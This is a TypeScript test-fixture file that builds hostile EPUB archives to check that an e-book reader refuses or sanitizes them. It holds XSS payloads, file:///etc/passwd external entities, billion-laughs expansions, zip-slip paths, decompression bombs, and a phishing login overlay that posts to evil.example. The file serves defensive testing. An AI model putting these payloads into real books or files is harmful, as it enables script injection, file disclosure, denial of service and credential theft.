import { constants, deflateRawSync } from 'node:zlib';

import type { EpubErrorCode } from '../src/errors.ts';
import type { FindingCode } from '../src/findings.ts';
import { basicMetadata, container, nav, ncx, opf, page, type Line } from './book-parts.ts';
import { buildZip, bytesOf, join, zipFiles, type RawEntry } from '@wm/bytes/testing/build-zip';

/** A book that must be refused with a code, or opened with everything dangerous gone. */
export interface HostileCase {
  name: string;
  build: () => Uint8Array;
  /** The code of the refusal; undefined when the book must come out clean. */
  refused?: EpubErrorCode;
  /** A finding that must be reported for a book that is cleaned. */
  finding?: FindingCode;
}

const evil = 'http://evil.example';

/** The entries of an ordinary one-chapter book around `body`. */
function entries(
  body: string,
  head = '<title>t</title>',
  more: readonly RawEntry[] = [],
): RawEntry[] {
  return [
    { name: 'mimetype', data: 'application/epub+zip', method: 0 },
    { name: 'META-INF/container.xml', data: container() },
    {
      name: 'OEBPS/content.opf',
      data: opf({ items: ['nav|nav.xhtml||nav', 'c|c.xhtml'], spine: ['c'] }),
    },
    { name: 'OEBPS/nav.xhtml', data: nav([['一', 'c.xhtml']]) },
    { name: 'OEBPS/c.xhtml', data: page(body, head) },
    ...more,
  ];
}

/** The same book with its chapter's entry changed. */
function changedChapter(change: Partial<RawEntry>): () => Uint8Array {
  return () => {
    const all = entries('');
    Object.assign(
      all.find((entry) => entry.name === 'OEBPS/c.xhtml')!,
      change,
    );
    return buildZip(all);
  };
}

function chapter(body: string, head?: string): () => Uint8Array {
  return () => buildZip(entries(body, head));
}

function withEntry(entry: RawEntry): () => Uint8Array {
  return () => buildZip(entries('<p>x</p>', undefined, [entry]));
}

/** Raw deflate data of `megabytes` MB of zeros: one flushed block of 1 MB repeated, then an empty final block. */
function zerosPacked(megabytes: number): Uint8Array {
  const block = deflateRawSync(new Uint8Array(1024 * 1024), {
    finishFlush: constants.Z_FULL_FLUSH,
  });
  return join([...Array.from({ length: megabytes }, () => block), Uint8Array.of(3, 0)]);
}

function deepContents(depth: number): string {
  let points = '';
  for (let level = 0; level < depth; level += 1) {
    points += `<navPoint id="n${level}"><navLabel><text>${level}</text></navLabel><content src="c.xhtml"/>`;
  }
  return ncx([]).replace('<navMap>', `<navMap>${points}${'</navPoint>'.repeat(depth)}`);
}

function manyAttributes(count: number): string {
  return Array.from({ length: count }, (_unused, index) => `a${index}="1" on${index}="2"`).join(
    ' ',
  );
}

const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 12 }, (_unused, level) => {
  const name = String.fromCharCode(97 + level);
  return `<!ENTITY ${String.fromCharCode(98 + level)} "${`&${name};`.repeat(10)}">`;
}).join('')}]>`;

const encryptionXml =
  '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#">' +
  '<EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><CipherData><CipherReference URI="OEBPS/c.xhtml"/>' +
  '</CipherData></EncryptedData></encryption>';

const markedLines: Line[] = [
  ['&lt;img src=x onerror=alert(1)&gt;', 'c.xhtml'],
  ['<b onclick="alert(1)">粗</b><script>alert(1)</script>', 'c.xhtml'],
];

/** The 22 cases of the reader's requirements, in their order. */
export const requiredCases: readonly HostileCase[] = [
  {
    name: '01 inline script',
    build: chapter('<p>x</p><script>alert(1)</script>'),
    finding: 'active-content-removed',
  },
  {
    name: '02 external script',
    build: chapter(
      '<p>x</p>',
      `<script src="${evil}/a.js"></script><script type="module" src="b.js"/>`,
    ),
    finding: 'active-content-removed',
  },
  {
    name: '03 event handlers',
    build: chapter(
      '<p onclick="alert(1)" ONMOUSEOVER="alert(1)">x</p><img src="x" onerror="alert(1)"/><details ontoggle="alert(1)" open=""/>',
    ),
    finding: 'active-content-removed',
  },
  {
    name: '04 SVG script in the spine',
    build: () =>
      zipFiles({
        'META-INF/container.xml': container(),
        'OEBPS/content.opf': opf({
          items: ['nav|nav.xhtml||nav', 'c|c.svg|image/svg+xml'],
          spine: ['c'],
        }),
        'OEBPS/nav.xhtml': nav([['一', 'c.svg']]),
        'OEBPS/c.svg':
          '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><text>x</text></svg>',
      }),
    finding: 'active-content-removed',
  },
  {
    name: '05 javascript: and data: links in text and contents',
    build: () =>
      zipFiles({
        'META-INF/container.xml': container(),
        'OEBPS/content.opf': opf({ items: ['nav|nav.xhtml||nav', 'c|c.xhtml'], spine: ['c'] }),
        'OEBPS/nav.xhtml': nav([
          ['一', 'javascript:alert(1)'],
          ['二', 'data:text/html,x'],
          ['三', ' java&#10;script:alert(1)'],
        ]),
        'OEBPS/c.xhtml': page(
          '<a href="javascript:alert(1)">x</a><a href="data:text/html;base64,PHNjcmlwdD4=">y</a><a href="&#1;jAvAsCrIpT&#58;alert(1)">z</a>',
        ),
      }),
    finding: 'active-content-removed',
  },
  {
    name: '06 iframe srcdoc, object, embed',
    build: chapter(
      `<p>x</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><object data="${evil}/a.swf"></object><embed src="${evil}/b"/>`,
    ),
    finding: 'active-content-removed',
  },
  {
    name: '07 remote style, import, font, picture, film',
    build: chapter(
      `<p style="background:url(${evil}/a)">x</p><img src="${evil}/b.png"/><video src="//evil.example/c" poster="${evil}/d"/>`,
      `<link rel="stylesheet" href="${evil}/e.css"/><style>@import "${evil}/f.css"; @font-face{font-family:x;src:url(${evil}/g)}</style>`,
    ),
    finding: 'remote-content-removed',
  },
  {
    name: '08 refresh, base and form',
    build: chapter(
      `<form action="${evil}"><input name="a"/><button formaction="javascript:alert(1)">x</button></form>`,
      `<meta http-equiv="refresh" content="0;url=${evil}"/><base href="${evil}/"/>`,
    ),
    finding: 'active-content-removed',
  },
  {
    name: '09 external entity in the package',
    build: () =>
      zipFiles({
        'META-INF/container.xml': container(),
        'OEBPS/content.opf': opf({
          metadata: '<dc:title>&x;</dc:title>',
          items: ['c|c.xhtml'],
          spine: ['c'],
        }).replace(
          '<package',
          '<!DOCTYPE package [<!ENTITY x SYSTEM "file:///etc/passwd">]><package',
        ),
        'OEBPS/c.xhtml': page('<p>x</p>'),
      }),
    refused: 'entities-declared',
  },
  {
    name: '10 billion laughs in the package',
    build: () =>
      zipFiles({
        'META-INF/container.xml': container(),
        'OEBPS/content.opf': opf({
          metadata: '<dc:title>&m;</dc:title>',
          items: ['c|c.xhtml'],
          spine: ['c'],
        }).replace('<package', `${laughs}<package`),
        'OEBPS/c.xhtml': page('<p>x</p>'),
      }),
    refused: 'entities-declared',
  },
  {
    name: '11 path that leaves the archive',
    build: withEntry({ name: '../../etc/cron.d/x', data: 'x' }),
    refused: 'unsafe-path',
  },
  {
    name: '12 bomb of 1 GiB in 1 MB',
    build: withEntry({
      name: 'OEBPS/big.css',
      data: '',
      packed: zerosPacked(1024),
      declaredBytes: 1024 * 1024 * 1024,
    }),
    refused: 'total-too-large',
  },
  {
    name: '13 size header that lies',
    build: changedChapter({ packed: zerosPacked(1024), declaredBytes: 5000 }),
    refused: 'size-mismatch',
  },
  {
    name: '14 truncated file',
    build: () => {
      const whole = buildZip(entries(`<p>${'字'.repeat(5000)}</p>`));
      return whole.slice(0, Math.floor(whole.length * 0.7));
    },
    refused: 'archive-damaged',
  },
  {
    name: '15 no container',
    build: () => zipFiles({ 'OEBPS/c.xhtml': page('<p>x</p>') }),
    refused: 'container-missing',
  },
  {
    name: '16 missing spine file',
    build: () =>
      zipFiles({
        'META-INF/container.xml': container(),
        'OEBPS/content.opf': opf({ items: ['a|gone.xhtml', 'c|c.xhtml'], spine: ['a', 'c'] }),
        'OEBPS/c.xhtml': page('<p>x</p>'),
      }),
    finding: 'section-missing',
  },
  {
    name: '17 chapter that is not well formed',
    build: chapter('<p>x<b>y</p></i><br><p a=1>z'),
    finding: 'not-well-formed',
  },
  {
    name: '18 rights management',
    build: withEntry({ name: 'META-INF/encryption.xml', data: encryptionXml }),
    refused: 'drm-protected',
  },
  {
    name: '19 contents nested 5,000 deep',
    build: () =>
      zipFiles({
        'META-INF/container.xml': container(),
        'OEBPS/content.opf': opf({
          version: '2.0',
          items: ['ncx|toc.ncx|application/x-dtbncx+xml', 'c|c.xhtml'],
          spine: ['c'],
          spineAttributes: 'toc="ncx"',
        }),
        'OEBPS/toc.ncx': deepContents(5000),
        'OEBPS/c.xhtml': page('<p>x</p>'),
      }),
    finding: 'contents-cut',
  },
  {
    name: '20 markup in metadata and labels',
    build: () =>
      zipFiles({
        'META-INF/container.xml': container(),
        'OEBPS/content.opf': opf({
          metadata:
            '<dc:title>&lt;img src=x onerror=alert(1)&gt;书&lt;script&gt;alert(1)&lt;/script&gt;</dc:title><dc:creator>&lt;b&gt;人&lt;/b&gt;</dc:creator>' +
            '<dc:description>&lt;p onclick="alert(1)"&gt;述&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</dc:description>',
          items: ['nav|nav.xhtml||nav', 'c|c.xhtml'],
          spine: ['c'],
        }),
        'OEBPS/nav.xhtml': nav(markedLines),
        'OEBPS/c.xhtml': page('<p>x</p>'),
      }),
  },
  {
    name: '21 login form laid over the page',
    build: chapter(
      `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9"><form action="${evil}"><input type="password" name="p"/><button>登录</button></form></div>`,
      '<style>.o{position : FIXED !important} .s{position:sticky}</style>',
    ),
    finding: 'active-content-removed',
  },
  {
    name: '22 50,000 entries',
    build: () =>
      buildZip([
        ...entries('<p>x</p>'),
        ...Array.from({ length: 50_000 }, (_unused, index) => ({
          name: `f/${index}`,
          data: '',
          method: 0,
        })),
      ]),
    refused: 'too-many-entries',
  },
];

/** Variants and further attacks on the archive and its documents. */
export const furtherCases: readonly HostileCase[] = [
  {
    name: 'absolute path',
    build: withEntry({ name: '/etc/passwd', data: 'x' }),
    refused: 'unsafe-path',
  },
  {
    name: 'backslash path',
    build: withEntry({ name: '..\\..\\x', data: 'x' }),
    refused: 'unsafe-path',
  },
  { name: 'drive letter', build: withEntry({ name: 'C:x', data: 'x' }), refused: 'unsafe-path' },
  {
    name: 'zero byte in a name',
    build: withEntry({ name: 'a\u0000b', data: 'x' }),
    refused: 'unsafe-path',
  },
  {
    name: 'dot segment in the middle',
    build: withEntry({ name: 'OEBPS/a/../../x', data: 'x' }),
    refused: 'unsafe-path',
  },
  {
    name: 'two entries of one name',
    build: withEntry({ name: 'OEBPS/c.xhtml', data: 'x' }),
    refused: 'duplicate-entry',
  },
  {
    name: 'two names that are one after normalisation',
    build: () =>
      buildZip(
        entries('', undefined, [
          { name: 'e\u0301', data: 'x' },
          { name: '\u00e9', data: 'y' },
        ]),
      ),
    refused: 'duplicate-entry',
  },
  {
    name: 'encrypted entry',
    build: withEntry({ name: 'OEBPS/x', data: 'x', flags: 1 }),
    refused: 'archive-encrypted',
  },
  {
    name: 'unknown compression',
    build: withEntry({ name: 'OEBPS/x', data: 'x', method: 12 }),
    refused: 'compression-unknown',
  },
  {
    name: 'entries that share their data',
    build: withEntry({ name: 'OEBPS/x', data: container(), shareHeaderOf: 1 }),
    refused: 'entries-overlap',
  },
  {
    name: 'symbolic link',
    build: withEntry({ name: 'OEBPS/l', data: '/etc/passwd', mode: 0o120777 }),
    finding: 'link-entry-ignored',
  },
  {
    name: 'symbolic link in place of a chapter',
    build: changedChapter({ data: '/etc/passwd', mode: 0o120777 }),
    refused: 'spine-empty',
  },
  {
    name: 'bomb of 150 MB under the size limit',
    build: withEntry({
      name: 'OEBPS/big.css',
      data: '',
      packed: zerosPacked(150),
      declaredBytes: 150 * 1024 * 1024,
    }),
    refused: 'ratio-too-high',
  },
  {
    name: 'many small bombs that are only together too dense',
    build: () => {
      const packed = deflateRawSync(new Uint8Array(60_000));
      const bombs = Array.from({ length: 800 }, (_unused, index) => ({
        name: `b/${index}`,
        data: '',
        packed,
        declaredBytes: 60_000,
      }));
      return buildZip(entries('', undefined, bombs));
    },
    refused: 'ratio-too-high',
  },
  {
    name: 'small entry whose header lies',
    build: changedChapter({ packed: zerosPacked(50), declaredBytes: 5000 }),
    refused: 'size-mismatch',
  },
  {
    name: 'stored entry whose header lies',
    build: withEntry({ name: 'OEBPS/x', data: 'xyz', method: 0, declaredBytes: 9 }),
    refused: 'size-mismatch',
  },
  {
    name: 'header that promises more than there is',
    build: changedChapter({ declaredBytes: 9000 }),
    refused: 'size-mismatch',
  },
  {
    name: 'wrong checksum',
    build: changedChapter({ crc: 1 }),
    refused: 'archive-damaged',
  },
  {
    name: 'count that lies',
    build: () => buildZip(entries(''), { entries: 2 }),
    refused: 'archive-damaged',
  },
  {
    name: 'archive inside the archive',
    build: withEntry({
      name: 'OEBPS/n.zip',
      data: buildZip([{ name: 'x', data: '', packed: zerosPacked(64), declaredBytes: 64 << 20 }]),
      method: 0,
    }),
  },
  { name: 'not an archive', build: () => bytesOf('%PDF-1.7 nothing'), refused: 'not-an-archive' },
  { name: 'empty file', build: () => new Uint8Array(0), refused: 'not-an-archive' },
  {
    name: 'external entity in the container',
    build: () =>
      zipFiles({
        'META-INF/container.xml': `<!DOCTYPE c [<!ENTITY % x SYSTEM "${evil}/x.dtd">%x;]>${container()}`,
      }),
    refused: 'entities-declared',
  },
  {
    name: 'billion laughs in a chapter',
    build: changedChapter({
      data: `${laughs}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>x&amp;y &m;</p></body></html>`,
    }),
    finding: 'entities-removed',
  },
  {
    name: 'chapter nested 100,000 deep',
    build: changedChapter({
      data: page('<b>'.repeat(100_000) + '</b>'.repeat(100_000)),
      method: 0,
    }),
    refused: 'document-too-complex',
  },
  {
    name: 'package nested 100,000 deep',
    build: () =>
      buildZip([
        { name: 'META-INF/container.xml', data: container() },
        {
          name: 'OEBPS/content.opf',
          data: `<package>${'<a>'.repeat(100_000)}</package>`,
          method: 0,
        },
      ]),
    refused: 'document-too-complex',
  },
  {
    name: 'chapter of 600,000 attributes on one element',
    build: changedChapter({ data: page(`<p ${manyAttributes(300_000)}>x</p>`), method: 0 }),
    refused: 'document-too-complex',
  },
  {
    name: 'spine without anything to read',
    build: () =>
      zipFiles({
        'META-INF/container.xml': container(),
        'OEBPS/content.opf': opf({ items: [], spine: [], metadata: basicMetadata }),
      }),
    refused: 'spine-empty',
  },
  {
    name: 'container that names no file',
    build: () => zipFiles({ 'META-INF/container.xml': container('../../x.opf') }),
    refused: 'package-missing',
  },
  {
    name: 'package that is no package',
    build: () =>
      zipFiles({ 'META-INF/container.xml': container(), 'OEBPS/content.opf': '<html/>' }),
    refused: 'package-malformed',
  },
  {
    name: 'package with 15,000 authors and as many roles',
    build: () => {
      const people = Array.from(
        { length: 15_000 },
        (_unused, index) =>
          `<dc:creator id="c${index}">a</dc:creator><meta refines="#x${index}" property="role">b</meta>`,
      );
      return buildZip([
        { name: 'META-INF/container.xml', data: container() },
        {
          name: 'OEBPS/content.opf',
          data: opf({
            metadata: basicMetadata + people.join(''),
            items: ['c|c.xhtml'],
            spine: ['c'],
          }),
          method: 0,
        },
        { name: 'OEBPS/c.xhtml', data: page('<p>x</p>') },
      ]);
    },
    finding: 'contents-missing',
  },
  {
    name: 'chapter of a million stray marks',
    build: changedChapter({ data: page(`<p>${'<'.repeat(1_000_000)}</p>`), method: 0 }),
    finding: 'not-well-formed',
  },
  {
    name: 'chapter of 100,000 unclosed paragraphs',
    build: changedChapter({ data: '<p>x'.repeat(100_000), method: 0 }),
    finding: 'not-well-formed',
  },
  {
    name: 'style sheet of 500,000 open brackets',
    build: changedChapter({
      data: page('<p>x</p>', `<style>${'a:is('.repeat(100_000)}${'{'.repeat(400_000)}</style>`),
      method: 0,
    }),
  },
];
